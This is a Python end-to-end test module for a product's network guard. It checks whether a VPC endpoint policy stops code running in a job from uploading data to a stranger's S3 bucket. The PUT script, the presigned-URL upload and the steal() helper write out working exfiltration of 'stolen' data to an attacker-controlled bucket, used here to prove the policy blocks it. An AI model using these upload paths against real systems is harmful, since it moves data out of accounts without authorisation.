"""A stranger's access keys inside a job: an open endpoint lets data out, and the printed policy prevents it.

An attacker who can run code in a job brings access keys of another account, which has a bucket for the stolen data.
"""

from __future__ import annotations

import configparser
import json
import os
import subprocess
import sys
import time
from dataclasses import dataclass, field, replace
from typing import Any

import boto3
import pytest
from botocore.config import Config

from reading_room.cli import reading
from tests.worlds.container_entry import run_in_container, start_in_container
from tests.worlds.product import Product
from tests.worlds.site import CALL, Site

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(400)]

STRANGER, REGION = "444455556666", "us-east-1"
S3_URL = f"https://s3.{REGION}.amazonaws.com"

PUT = """
import json, ssl, sys, urllib.error, urllib.request
trusting = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
for url in sys.argv[1:]:
    asked = urllib.request.Request(url, data=b"stolen", method="PUT")
    try:
        with urllib.request.urlopen(asked, timeout=30, context=trusting) as answer:
            print(answer.status)
    except urllib.error.HTTPError as error:
        print(error.code)
"""
ONE_CONNECTION = """
import http.client, ssl, sys, time, urllib.parse
url = urllib.parse.urlsplit(sys.argv[1])
trusting = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
connection = http.client.HTTPSConnection(url.netloc, timeout=30, context=trusting)
while True:
    began = time.time()
    connection.request("GET", url.path + "?" + url.query)
    answer = connection.getresponse()
    answer.read()
    print(answer.status, connection.sock.getsockname()[1] if connection.sock else "closed", began, flush=True)
    time.sleep(0.05)
"""


def run(product: Product, *arguments: str) -> str:
    """Run a command of the product with its settings, and return its output."""
    settings = {f"READING_ROOM_{name}": value for name, value in product.settings.items()}
    argv = [sys.executable, "-m", "reading_room", *arguments]
    done = subprocess.run(argv, capture_output=True, text=True, env=os.environ | settings, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


def signer(keys: dict[str, Any]) -> Any:
    """Return a client that presigns URLs for use in a job: S3's host name with the bucket in the path."""
    session: Any = boto3.session.Session(region_name=REGION, **keys)
    config = Config(signature_version="s3v4", s3={"addressing_style": "path"})
    return session.client("s3", endpoint_url=S3_URL, config=config)


@dataclass
class Attacker:
    """Somebody with another account, in which a bucket is writable for everybody."""

    account: reading.Account
    keys: dict[str, str] = field(repr=False)
    bucket: str = "gathered-by-a-stranger"

    def presigned(self, key: str) -> str:
        """Return a URL with which anybody can put an object into the bucket."""
        s3 = signer(self.keys)
        return str(s3.generate_presigned_url("put_object", {"Bucket": self.bucket, "Key": key}))

    def take_arrivals(self) -> list[str]:
        """Return the keys of the objects that arrived, and delete them."""
        found = self.account.s3.list_objects_v2(Bucket=self.bucket).get("Contents", [])
        for each in found:
            self.account.s3.delete_object(Bucket=self.bucket, Key=each["Key"])
        return sorted(each["Key"] for each in found)


def next_answers(reader: subprocess.Popen[str], since: float) -> list[tuple[str, str]]:
    """Return the status and port of the first three requests that began after a given time."""
    found: list[tuple[str, str]] = []
    assert reader.stdout is not None
    while len(found) < 3:
        status, port, began = reader.stdout.readline().split()
        if float(began) > since:
            found.append((status, port))
    return found


@pytest.fixture(scope="module")
def attacker(product: Product) -> Attacker:
    """Create the stranger's account as the operator creates any account."""
    run(product, "accounts", "create", STRANGER, "--data", str(product.data))
    parser = configparser.ConfigParser(interpolation=None)
    parser.read(product.data / "credentials")
    profile = parser[STRANGER]
    keys = {name: profile[name] for name in ("aws_access_key_id", "aws_secret_access_key")}
    endpoint = replace(
        product.endpoint(),
        access_key_id=keys["aws_access_key_id"],
        secret_access_key=keys["aws_secret_access_key"],
    )
    found = Attacker(reading.Account(endpoint), keys)
    s3 = found.account.s3
    s3.create_bucket(Bucket=found.bucket)
    s3.delete_public_access_block(Bucket=found.bucket)
    anybody = {
        "Effect": "Allow",
        "Principal": "*",
        "Action": "s3:PutObject",
        "Resource": f"arn:aws:s3:::{found.bucket}/*",
    }
    s3.put_bucket_policy(Bucket=found.bucket, Policy=json.dumps({"Version": "2012-10-17", "Statement": [anybody]}))
    return found


@pytest.fixture
def site(product: Product) -> Site:
    """A place with the guide's endpoint policy: seven actions, for everybody, on all resources.

    It belongs to the first administrator, as the commands expect.
    """
    return Site(product)


def steal(worker: int, attacker: Attacker) -> list[Any]:
    """Write to the stranger's bucket from a job in three ways; return whether the SDK succeeded, and two statuses."""
    parameters = {"Bucket": attacker.bucket, "Key": "foreign", "Body": "stolen"}
    request = json.dumps(["s3", "put_object", parameters, None, attacker.keys])
    foreign = json.loads(run_in_container(worker, CALL, request, as_job=True))
    anonymous = f"{S3_URL}/{attacker.bucket}/anonymous"
    said = run_in_container(worker, PUT, anonymous, attacker.presigned("presigned"), as_job=True)
    return [foreign[0] == "answered", *(int(line) for line in said.split())]


def test_an_open_endpoint_lets_a_strangers_keys_out_and_the_job_warns(site: Site, attacker: Attacker) -> None:
    with site.running() as (job, worker):
        assert steal(worker, attacker) == [True, 200, 200]
        assert "lets in requests from every account" in site.story(job)
    assert attacker.take_arrivals() == ["anonymous", "foreign", "presigned"]


def test_the_printed_policy_allows_the_job_and_denies_a_strangers_keys(
    product: Product, site: Site, attacker: Attacker
) -> None:
    printed = run(product, "network", "endpoint-policy", "--bucket", site.bucket)
    site.ec2.modify_vpc_endpoint(VpcEndpointId=str(site.network.endpoint), PolicyDocument=printed)
    with site.running() as (job, worker):
        assert steal(worker, attacker) == [False, 403, 403]
        assert "lets in requests" not in site.story(job)
    assert attacker.take_arrivals() == []
    site.completes()


def test_a_changed_endpoint_policy_applies_to_the_next_request_of_an_open_connection(
    product: Product, site: Site
) -> None:
    s3 = signer(site.keys())
    url = str(s3.generate_presigned_url("get_object", {"Bucket": site.bucket, "Key": "in/a.txt"}))

    def policy(effect: str) -> str:
        statements = [
            {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"},
            {"Effect": effect, "Principal": "*", "Action": "s3:GetObject", "Resource": "*"},
        ]
        return json.dumps({"Version": "2012-10-17", "Statement": statements})

    with site.running() as (_, worker):
        reader = start_in_container(worker, ONE_CONNECTION, url, as_job=True)
        try:
            ports = set()
            for effect, wanted in (("Allow", "200"), ("Deny", "403"), ("Allow", "200"), ("Deny", "403")):
                site.ec2.modify_vpc_endpoint(VpcEndpointId=str(site.network.endpoint), PolicyDocument=policy(effect))
                for status, port in next_answers(reader, time.time()):
                    assert status == wanted
                    ports.add(port)
            assert len(ports) == 1
        finally:
            reader.kill()
            reader.communicate()
